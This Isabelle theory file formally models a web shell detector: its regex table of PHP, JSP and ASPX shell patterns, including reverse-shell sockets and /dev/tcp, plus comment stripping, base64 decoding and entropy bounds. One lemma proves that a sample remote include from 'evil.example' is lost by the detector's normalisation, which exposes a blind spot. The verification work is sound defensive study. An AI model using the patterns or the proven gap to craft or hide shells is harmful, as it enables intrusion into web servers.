(* ===== verification/GC_WebText.thy ===== *)
theory GC_WebText
  imports GC_Cron GC_PHP Complex_Main
begin

text \<open>
  The text analysis of the web shell detector (\<^verbatim>\<open>detect/web/patterns.go\<close> and \<^verbatim>\<open>analysis.go\<close>): the table
  of patterns, the normalisation that runs before them, the entropy of a file and the check of its
  first bytes. The pattern table carries the regular expressions as text; whether one matches is
  decided by an argument \<open>rx\<close>, the regexp package. The replacements of the normalisation are written
  out. The entropy is the real number the floating-point loop approximates.
\<close>

section \<open>Patterns\<close>

record namedPattern =
  np_name :: string
  np_re :: string

definition pattern :: "string \<Rightarrow> string \<Rightarrow> namedPattern" where
  "pattern n re = \<lparr>np_name = n, np_re = re\<rparr>"

text \<open>In the text of an expression a tilde stands for a backslash, an exclamation mark for a double and an ampersand for a single quote.\<close>

definition rex :: "string \<Rightarrow> string" where
  "rex = map (\<lambda>c. if c = CHR ''~'' then CHR 0x5C else if c = CHR ''!'' then CHR 0x22 else if c = CHR ''&'' then CHR 0x27 else c)"

definition webPatterns :: "namedPattern list" where
  "webPatterns =
    [pattern ''dynamic_eval'' (rex ''(?i)~b(eval|assert|create_function)~s*~(''),
     pattern ''php_exec_funcs'' (rex ''(?i)~b(shell_exec|passthru|system|exec|popen|proc_open|pcntl_exec|dl|proc_nice)~s*~(''),
     pattern ''user_input_call'' (rex ''(?i)~$_?(GET|POST|REQUEST|COOKIE|SERVER|ENV|FILES)~s*~[~s*[&!][^&!]+[&!]~s*~]~s*~(''),
     pattern ''preg_replace_e'' (rex ''(?i)preg_replace~s*~([^)]*~/[imsxADSUXJu]*e[imsxADSUXJu]*[&!]''),
     pattern ''reflection_invoke'' (rex ''(?i)~bReflectionFunction~b|~bReflectionMethod~b.*invoke''),
     pattern ''encoding_obfuscation'' (rex ''(?i)~b(base64_decode|gzinflate|gzuncompress|str_rot13|convert_uudecode|hex2bin|pack)~s*~(''),
     pattern ''double_dollar_var_var'' (rex ''~$~$[A-Za-z_]''),
     pattern ''variable_function_call'' (rex ''~$[A-Za-z_][A-Za-z0-9_]*~s*~(''),
     pattern ''backtick_exec'' (rex ''`[^`~n]{2,}`''),
     pattern ''globals_bypass'' (rex ''(?i)~$~{[!&]GLOBALS[!&]~}|~$GLOBALS~[''),
     pattern ''assert_user_input'' (rex ''(?i)assert~s*~(~s*~$_(GET|POST|REQUEST|COOKIE)''),
     pattern ''include_remote'' (rex ''(?i)(include|require)(_once)?~s*~(~s*[&!]https?://''),
     pattern ''chmod_suid'' (rex ''(?i)chmod~s*~(~s*[^,]+,~s*0?[2-7]?7[0-7][0-7]~s*~)''),
     pattern ''file_put_contents_remote'' (rex ''(?i)file_put_contents~s*~([^)]*,~s*file_get_contents~s*~(~s*[&!]https?://''),
     pattern ''move_uploaded_file_dynamic'' (rex ''(?i)move_uploaded_file~s*~([^)]*~$_FILES''),
     pattern ''short_eval_payload'' (rex ''(?s)<~?(php|=)?~s*@?(eval|assert)~s*~(~s*~$_(GET|POST|REQUEST|COOKIE)~s*~[''),
     pattern ''jsp_runtime_exec'' (rex ''(?i)Runtime~.getRuntime~s*~(~s*~)~s*~.~s*exec~s*~(''),
     pattern ''jsp_processbuilder'' (rex ''(?i)new~s+ProcessBuilder~s*~(''),
     pattern ''jsp_scriptlet_exec'' (rex ''(?s)<%~s*@?~s*.{0,200}Runtime~s*~.''),
     pattern ''jsp_class_loader'' (rex ''(?i)defineClass~s*~(|ClassLoader~s*~(~s*~)~s*~.~s*defineClass''),
     pattern ''aspx_process_start'' (rex ''(?i)System~.Diagnostics~.Process~s*~.~s*Start~s*~(''),
     pattern ''aspx_response_write_eval'' (rex ''(?i)Response~.Write~s*~(.*~bRequest~s*~[''),
     pattern ''aspx_unsafe_new_sprocess'' (rex ''(?i)new~s+Process~s*~(~s*~)|ProcessStartInfo''),
     pattern ''long_base64_blob'' (rex ''(?:[A-Za-z0-9+/]{120,}={0,2})''),
     pattern ''hex_blob'' (rex ''(?:~~x[0-9a-fA-F]{2}){20,}''),
     pattern ''chr_chain'' (rex ''(?i)(chr~s*~(~s*~d{1,3}~s*~)~s*~.~s*){4,}''),
     pattern ''eval_gzinflate_chain'' (rex ''(?is)eval~s*~(~s*(base64_decode|gzinflate|gzuncompress|str_rot13)''),
     pattern ''reverse_shell_socket'' (rex ''(?i)fsockopen~s*~(|socket_connect~s*~(|stream_socket_client~s*~(''),
     pattern ''php_wrapper_abuse'' (rex ''(?i)php://(input|filter|memory|temp)''),
     pattern ''data_wrapper_exec'' (rex ''(?i)data://text/plain[;,]''),
     pattern ''bash_reverse_shell'' (rex ''/dev/tcp/~d''),
     pattern ''call_user_func_eval'' (rex ''(?i)call_user_func(_array)?~s*~(~s*[&!](eval|assert|system|exec|passthru|shell_exec|pcntl_exec)[&!]'')]"

definition suspiciousExtensions :: "string list" where
  "suspiciousExtensions = [''.php'', ''.php3'', ''.php4'', ''.php5'', ''.php7'', ''.phtml'', ''.phar'', ''.inc'', ''.jsp'', ''.jspx'', ''.jhtml'',
     ''.asp'', ''.aspx'', ''.ashx'', ''.asmx'', ''.cfm'', ''.cfml'', ''.pl'', ''.cgi'']"

definition rawOnlyPatterns :: "string list" where
  "rawOnlyPatterns = [''long_base64_blob'', ''hex_blob'', ''chr_chain'']"

definition execPrimitivePatterns :: "string list" where
  "execPrimitivePatterns = [''dynamic_eval'', ''php_exec_funcs'', ''preg_replace_e'', ''jsp_runtime_exec'', ''jsp_processbuilder'',
     ''aspx_process_start'', ''backtick_exec'', ''call_user_func_eval'', ''assert_user_input'', ''short_eval_payload'', ''eval_gzinflate_chain'']"

definition inputChannelPatterns :: "string list" where
  "inputChannelPatterns = [''user_input_call'', ''assert_user_input'', ''short_eval_payload'', ''aspx_response_write_eval'',
     ''php_wrapper_abuse'', ''move_uploaded_file_dynamic'']"

definition obfuscationPatterns :: "string list" where
  "obfuscationPatterns = [''encoding_obfuscation'', ''long_base64_blob'', ''hex_blob'', ''chr_chain'', ''eval_gzinflate_chain'',
     ''double_dollar_var_var'']"

definition combined_patterns :: "string list" where
  "combined_patterns = [''assert_user_input'', ''short_eval_payload'', ''user_input_call'']"

definition classifyPatternCategories :: "string list \<Rightarrow> bool \<times> bool \<times> bool" where
  "classifyPatternCategories matched =
     (list_ex (\<lambda>m. m \<in> set execPrimitivePatterns \<or> m \<in> set combined_patterns) matched,
      list_ex (\<lambda>m. m \<in> set inputChannelPatterns \<or> m \<in> set combined_patterns) matched,
      list_ex (\<lambda>m. m \<in> set obfuscationPatterns) matched)"

section \<open>Normalisation\<close>

text \<open>
  \<^verbatim>\<open>regexp.ReplaceAllString\<close>: a matcher gives, for a text that starts at a match, the replacement and
  how many bytes beyond the first one the match takes.
\<close>

function replace_all :: "(string \<Rightarrow> (string \<times> nat) option) \<Rightarrow> string \<Rightarrow> string" where
  "replace_all mt [] = []"
| "replace_all mt (c # s) =
     (case mt (c # s) of None \<Rightarrow> c # replace_all mt s | Some (out, n) \<Rightarrow> out @ replace_all mt (drop n s))"
  by pat_completeness auto
termination
  by (relation "measure (length \<circ> snd)") auto

text \<open>\<^verbatim>\<open>//[^\n]*\<close>\<close>

definition line_comment :: "string \<Rightarrow> (string \<times> nat) option" where
  "line_comment s = (if HasPrefix s ''//'' then Some ([], length (takeWhile (\<lambda>c. c \<noteq> CHR 0x0A) s) - 1) else None)"

text \<open>\<^verbatim>\<open>(?m)(^|\s)#[^\n]*\<close>, with whether the text starts a line.\<close>

function strip_hash :: "bool \<Rightarrow> string \<Rightarrow> string" where
  "strip_hash bol [] = []"
| "strip_hash bol (c # s) =
     (if bol \<and> c = CHR ''#'' then strip_hash False (dropWhile (\<lambda>d. d \<noteq> CHR 0x0A) s)
      else if re_space c \<and> HasPrefix s ''#'' then strip_hash False (dropWhile (\<lambda>d. d \<noteq> CHR 0x0A) s)
      else c # strip_hash (c = CHR 0x0A) s)"
  by pat_completeness auto
termination
  by (relation "measure (length \<circ> snd)") (auto simp: length_dropWhile_le le_imp_less_Suc)

text \<open>\<^verbatim>\<open>(?s)/\*.*?\*/\<close>\<close>

definition block_comment :: "string \<Rightarrow> (string \<times> nat) option" where
  "block_comment s =
     (if HasPrefix s ''/*''
      then (case from_sub ''*/'' (drop 2 s) of None \<Rightarrow> None | Some t \<Rightarrow> Some ('' '', length s - length t + 1)) else None)"

definition stripPHPComments :: "string \<Rightarrow> string" where
  "stripPHPComments s = replace_all block_comment (strip_hash True (replace_all line_comment s))"

text \<open>The class of characters between the quotes of a concatenation, and the expression around it.\<close>

definition concat_char :: "char \<Rightarrow> bool" where
  "concat_char c \<longleftrightarrow> c \<notin> {CHR 0x22, CHR 0x5C, CHR 0x0A}"

definition quoted_part :: "string \<Rightarrow> (string \<times> string) option" where
  "quoted_part s =
     (if HasPrefix s [CHR 0x22]
      then (let body = takeWhile concat_char (tl s); rest = dropWhile concat_char (tl s)
            in if length body \<le> 128 \<and> HasPrefix rest [CHR 0x22] then Some (body, tl rest) else None)
      else None)"

definition concat_expr :: "string \<Rightarrow> (string \<times> nat) option" where
  "concat_expr s =
     (case quoted_part s of
        None \<Rightarrow> None
      | Some (a, r) \<Rightarrow>
          (let r1 = dropWhile re_space r
           in if HasPrefix r1 ''.''
              then (case quoted_part (dropWhile re_space (tl r1)) of
                      None \<Rightarrow> None
                    | Some (b, rest) \<Rightarrow> Some (CHR 0x22 # a @ b @ [CHR 0x22], length s - length rest - 1))
              else None))"

fun collapse_rounds :: "nat \<Rightarrow> string \<Rightarrow> string" where
  "collapse_rounds 0 s = s"
| "collapse_rounds (Suc n) s = (let t = replace_all concat_expr s in if t = s then s else collapse_rounds n t)"

definition collapseStringConcat :: "string \<Rightarrow> string" where
  "collapseStringConcat = collapse_rounds 8"

definition containsShellLikely :: "string \<Rightarrow> bool" where
  "containsShellLikely s \<longleftrightarrow>
     contains_any (ToLower s) [''eval'', ''system'', ''exec'', ''passthru'', ''bash'', ''/bin/'', ''wget'', ''curl'', ''python -c'', ''whoami'']"

text \<open>A quoted base64 text of 16 to 118 characters and its padding.\<close>

definition short_b64 :: "string \<Rightarrow> (string \<times> nat) option" where
  "short_b64 s =
     (let run = takeWhile is_b64 (tl s); r = dropWhile is_b64 (tl s);
          pad = takeWhile (\<lambda>d. d = CHR ''='') (take 2 r); close = take 1 (drop (length pad) r); m = take 1 s @ run @ pad @ close
      in if take 1 s \<in> {[CHR 0x22], [CHR 0x27]} \<and> 16 \<le> length run \<and> length run \<le> 118 \<and> close \<in> {[CHR 0x22], [CHR 0x27]}
         then Some ((case b64_decode (run @ pad) of
                       None \<Rightarrow> m
                     | Some ds \<Rightarrow> if containsShellLikely ds then m @ '' /*<decoded>*/ '' @ ds else m), length m - 1)
         else None)"

definition decodeInlineBase64 :: "string \<Rightarrow> string" where
  "decodeInlineBase64 = replace_all short_b64"

text \<open>\<^verbatim>\<open>[ ]{2,}\<close>\<close>

definition multiSpace :: "string \<Rightarrow> (string \<times> nat) option" where
  "multiSpace s = (let n = length (takeWhile (\<lambda>c. c = CHR '' '') s) in if 2 \<le> n then Some ('' '', n - 1) else None)"

definition normalizeSource :: "string \<Rightarrow> string" where
  "normalizeSource src =
     replace_all multiSpace (ReplaceByte (decodeInlineBase64 (collapseStringConcat (stripPHPComments src))) (CHR 0x09) '' '')"

definition matchingPatterns :: "(string \<Rightarrow> string \<Rightarrow> bool) \<Rightarrow> string \<Rightarrow> string list" where
  "matchingPatterns rx content =
     map np_name (filter (\<lambda>p. rx (np_re p) (if np_name p \<in> set rawOnlyPatterns then content else normalizeSource content)) webPatterns)"

section \<open>Entropy, magic bytes and attributes\<close>

definition shannonEntropy :: "string \<Rightarrow> real" where
  "shannonEntropy b =
     (if b = [] then 0
      else - (\<Sum>c \<in> set b. let p = real (count_list b c) / real (length b) in p * log 2 p))"

definition entropyThreshold :: real where "entropyThreshold = 7.5"

definition php_like :: "string \<Rightarrow> bool" where
  "php_like ext \<longleftrightarrow> list_ex (HasSuffix ext) [''.php'', ''.phtml'', ''.phar'', ''.inc'']"

definition asset_exts :: "string list" where
  "asset_exts = [''.jpg'', ''.jpeg'', ''.png'', ''.gif'', ''.txt'', ''.log'', ''.ico'', ''.css'', ''.js'', ''.html'']"

definition starts_any :: "string \<Rightarrow> string list \<Rightarrow> bool" where
  "starts_any b ps \<longleftrightarrow> list_ex (HasPrefix b) ps"

definition magicByteMismatch :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "magicByteMismatch path b \<longleftrightarrow>
     4 \<le> length b \<and>
     (let head = take 16 b; ext = ToLower path;
          startsPHP = starts_any head [''<?php'', ''<?='', ''<?'' @ [CHR 0x0A], ''<? '', ''<?'' @ [CHR 0x09], ''<?xml''];
          startsBin = starts_any head [CHR 0x7F # ''ELF'', ''MZ''];
          startsImg = starts_any head [[CHR 0xFF, CHR 0xD8, CHR 0xFF], CHR 0x89 # ''PNG'', ''GIF8'']
      in php_like ext \<and> startsBin \<or> startsImg \<and> Contains b ''<?php'' \<or>
         startsPHP \<and> \<not> php_like ext \<and> list_ex (HasSuffix ext) asset_exts)"

definition hasSuspiciousExtension :: "string \<Rightarrow> bool" where
  "hasSuspiciousExtension path \<longleftrightarrow> list_ex (HasSuffix (ToLower path)) suspiciousExtensions"

section \<open>What stripping comments removes\<close>

lemma Contains_drop: "\<not> Contains s sub \<Longrightarrow> \<not> Contains (drop n s) sub"
  by (metis Contains_iff append.assoc append_take_drop_id)

lemma Contains_suffix: "\<not> Contains s sub \<Longrightarrow> s = a @ t \<Longrightarrow> \<not> Contains t sub"
  by (metis Contains_iff append.assoc)

lemma no_slashes_Cons: "\<not> Contains (c # s) ''//'' \<longleftrightarrow> \<not> Contains s ''//'' \<and> (c = CHR ''/'' \<longrightarrow> s = [] \<or> hd s \<noteq> CHR ''/'')"
  by (cases s) auto

lemma line_comment_None: "\<not> HasPrefix s ''//'' \<Longrightarrow> line_comment s = None"
  by (simp add: line_comment_def)

lemma line_comment_Some: "HasPrefix s ''//'' \<Longrightarrow> \<exists>n. line_comment s = Some ([], n)"
  by (simp add: line_comment_def)

lemma line_stripped_Cons: "\<not> HasPrefix (c # r) ''//'' \<Longrightarrow> replace_all line_comment (c # r) = c # replace_all line_comment r"
  using line_comment_None [of "c # r"] by simp

lemma line_stripped_no_slashes: "\<not> Contains (replace_all line_comment s) ''//''"
proof (induction s rule: measure_induct_rule [of length])
  case (less s)
  show ?case
  proof (cases s)
    case (Cons c r)
    show ?thesis
    proof (cases "HasPrefix s ''//''")
      case True
      then obtain n where "line_comment s = Some ([], n)" using line_comment_Some by blast
      then show ?thesis using less [of "drop n r"] by (simp add: Cons)
    next
      case False
      then have step: "replace_all line_comment s = c # replace_all line_comment r" unfolding Cons by (rule line_stripped_Cons)
      have "replace_all line_comment r = [] \<or> hd (replace_all line_comment r) \<noteq> CHR ''/''" if "c = CHR ''/''"
      proof (cases r)
        case (Cons d q)
        then have "d \<noteq> CHR ''/''" using False \<open>s = c # r\<close> that by auto
        then have "replace_all line_comment r = d # replace_all line_comment q" unfolding Cons by (intro line_stripped_Cons) simp
        then show ?thesis using \<open>d \<noteq> CHR ''/''\<close> by simp
      qed simp
      then show ?thesis unfolding step no_slashes_Cons using less [of r] Cons by simp
    qed
  qed simp
qed

lemma strip_hash_line_end: "strip_hash False (dropWhile (\<lambda>d. d \<noteq> CHR 0x0A) s) = [] \<or> hd (strip_hash False (dropWhile (\<lambda>d. d \<noteq> CHR 0x0A) s)) = CHR 0x0A"
proof (induction s rule: measure_induct_rule [of length])
  case (less s)
  show ?case
  proof (cases "dropWhile (\<lambda>d. d \<noteq> CHR 0x0A) s")
    case (Cons c r)
    then have "c = CHR 0x0A" by (simp add: dropWhile_eq_Cons_conv)
    moreover have "length r < length s" using Cons length_dropWhile_le [of "\<lambda>d. d \<noteq> CHR 0x0A" s] by simp
    ultimately show ?thesis using less [of r] Cons by auto
  next
    case Nil
    then show ?thesis by (simp only: strip_hash.simps simp_thms)
  qed
qed

lemma strip_hash_no_slashes: "\<not> Contains s ''//'' \<Longrightarrow> \<not> Contains (strip_hash bol s) ''//''"
proof (induction bol s rule: strip_hash.induct)
  case (2 bol c s)
  have rest: "\<not> Contains (dropWhile (\<lambda>d. d \<noteq> CHR 0x0A) s) ''//''"
    by (rule Contains_suffix [of "c # s" _ "c # takeWhile (\<lambda>d. d \<noteq> CHR 0x0A) s"]) (use 2 in simp_all)
  show ?case
  proof (cases "bol \<and> c = CHR ''#'' \<or> re_space c \<and> HasPrefix s ''#''")
    case True
    then show ?thesis using 2 rest by auto
  next
    case False
    have "hd (strip_hash False s) = hd s \<or> strip_hash False s = [] \<or> hd (strip_hash False s) = CHR 0x0A" if "s \<noteq> []"
      using that strip_hash_line_end [of "tl s"] by (cases s) auto
    moreover have "strip_hash (c = CHR 0x0A) s = strip_hash False s" if "c = CHR ''/''" using that by simp
    moreover have "\<not> Contains (strip_hash (c = CHR 0x0A) s) ''//''" using 2 False no_slashes_Cons by blast
    ultimately have "\<not> Contains (c # strip_hash (c = CHR 0x0A) s) ''//''"
      using "2.prems" unfolding no_slashes_Cons by (cases s) auto
    then show ?thesis using False by auto
  qed
qed simp

lemma block_no_slashes: "\<not> Contains s ''//'' \<Longrightarrow> \<not> Contains (replace_all block_comment s) ''//''"
proof (induction s rule: measure_induct_rule [of length])
  case (less s)
  show ?case
  proof (cases s)
    case (Cons c r)
    show ?thesis
    proof (cases "block_comment s")
      case None
      have "hd (replace_all block_comment r) = hd r \<or> hd (replace_all block_comment r) = CHR '' ''" if "r \<noteq> []"
        using that by (cases r) (auto simp: block_comment_def split: option.split)
      moreover have "\<not> Contains (replace_all block_comment r) ''//''" using less Cons by simp
      moreover have "c = CHR ''/'' \<Longrightarrow> r = [] \<or> hd r \<noteq> CHR ''/''" using less.prems no_slashes_Cons Cons by blast
      ultimately have "\<not> Contains (c # replace_all block_comment r) ''//''" unfolding no_slashes_Cons by (cases "r = []") auto
      then show ?thesis using None by (simp add: Cons)
    next
      case (Some on)
      then obtain n where n: "block_comment s = Some ('' '', n)" by (auto simp: block_comment_def split: if_splits option.splits)
      have "\<not> Contains (drop n r) ''//''" using Contains_drop [OF less.prems, of "Suc n"] by (simp add: Cons)
      then have "\<not> Contains (replace_all block_comment (drop n r)) ''//''" using less.IH [of "drop n r"] by (simp add: Cons)
      then show ?thesis using n by (simp add: Cons)
    qed
  qed simp
qed

text \<open>
  Stripping the comments leaves no double slash anywhere, so the patterns for remote includes and
  stream wrappers, which look for one, see it only where a later step puts it back.
\<close>

lemma stripped_no_slashes: "\<not> Contains (stripPHPComments s) ''//''"
  by (simp add: stripPHPComments_def block_no_slashes strip_hash_no_slashes line_stripped_no_slashes)

lemma remote_include_hidden:
  "normalizeSource (''<?php include('' @ [CHR 0x27] @ ''http://evil.example/x'' @ [CHR 0x27] @ '');'') = ''<?php include('' @ [CHR 0x27] @ ''http:''"
  by code_simp

section \<open>Entropy\<close>

lemma count_list_sum: "(\<Sum>c \<in> set b. count_list b c) = length b"
  by (rule sum_count_set) simp_all

text \<open>
  The entropy of a file is between 0 and 8 bits per byte.
\<close>

theorem entropy_bounds: "0 \<le> shannonEntropy b \<and> shannonEntropy b \<le> 8"
proof (cases "b = []")
  case False
  define p where "p c = real (count_list b c) / real (length b)" for c
  have pos: "0 < p c" "p c \<le> 1" if "c \<in> set b" for c
    using that False count_le_length [of b c] count_list_0_iff [of b c] by (auto simp: p_def)
  have one: "(\<Sum>c \<in> set b. p c) = 1"
    using False count_list_sum [of b] by (simp add: p_def flip: sum_divide_distrib of_nat_sum)
  have H: "shannonEntropy b = (\<Sum>c \<in> set b. - (p c * log 2 (p c)))"
    using False by (simp add: shannonEntropy_def p_def Let_def sum_negf)
  have "0 \<le> - (p c * log 2 (p c))" if "c \<in> set b" for c
    using pos [OF that] by (simp add: mult_le_0_iff)
  then have "0 \<le> shannonEntropy b" unfolding H by (rule sum_nonneg)
  moreover have "- (p c * log 2 (p c)) - 8 * p c \<le> (1 / 256 - p c) / ln 2" if c: "c \<in> set b" for c
  proof -
    have "ln (1 / (256 * p c)) \<le> 1 / (256 * p c) - 1" using pos [OF c] by (intro ln_le_minus_one) simp
    then have "p c * ln (1 / (256 * p c)) \<le> p c * (1 / (256 * p c) - 1)" using pos [OF c] by (intro mult_left_mono) simp_all
    also have "\<dots> = 1 / 256 - p c" using pos [OF c] by (simp add: field_simps)
    finally have "p c * ln (1 / (256 * p c)) / ln 2 \<le> (1 / 256 - p c) / ln 2" by (rule divide_right_mono) simp
    moreover have "ln (256 :: real) = 8 * ln 2" using ln_realpow [of "2 :: real" 8] by simp
    then have "p c * ln (1 / (256 * p c)) / ln 2 = - (p c * log 2 (p c)) - 8 * p c"
      using pos [OF c] by (simp add: ln_div ln_mult log_def field_simps)
    ultimately show ?thesis by simp
  qed
  then have "(\<Sum>c \<in> set b. - (p c * log 2 (p c)) - 8 * p c) \<le> (\<Sum>c \<in> set b. (1 / 256 - p c) / ln 2)"
    by (rule sum_mono)
  then have "shannonEntropy b - 8 \<le> (real (card (set b)) / 256 - 1) / ln 2"
    using one unfolding H by (simp add: sum_subtractf sum_divide_distrib [symmetric] sum_distrib_left [symmetric])
  moreover have "card (set b) \<le> 256"
    using card_mono [OF finite_class.finite_UNIV, of "set b"] by (simp add: card_UNIV_char)
  then have "(real (card (set b)) / 256 - 1) / ln 2 \<le> 0" by (simp add: divide_le_0_iff)
  ultimately show ?thesis by linarith
qed (simp add: shannonEntropy_def)

end
